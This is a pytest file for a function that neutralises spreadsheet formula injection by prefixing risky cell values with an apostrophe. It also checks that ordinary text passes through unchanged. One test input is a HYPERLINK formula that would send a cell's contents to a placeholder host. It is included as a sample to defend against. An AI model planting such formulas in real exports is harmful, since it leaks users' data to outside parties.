"""What a spreadsheet must not reckon with."""

import pytest

from articles.rules.spreadsheet import cell


@pytest.mark.parametrize(
    "words",
    [
        "=1+1",
        '=HYPERLINK("http://gull.example/?"&A1)',
        "+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
    ],
)
def test_what_would_be_a_formula_begins_with_an_apostrophe(words):
    assert cell(words) == f"'{words}"


@pytest.mark.parametrize(
    "words", ["", "Sent back", "1+1=2", "'=1", "ed@newsroom.example", "2026-11-24 09:00:00", " =1"]
)
def test_other_words_stay_as_they_are(words):
    assert cell(words) == words
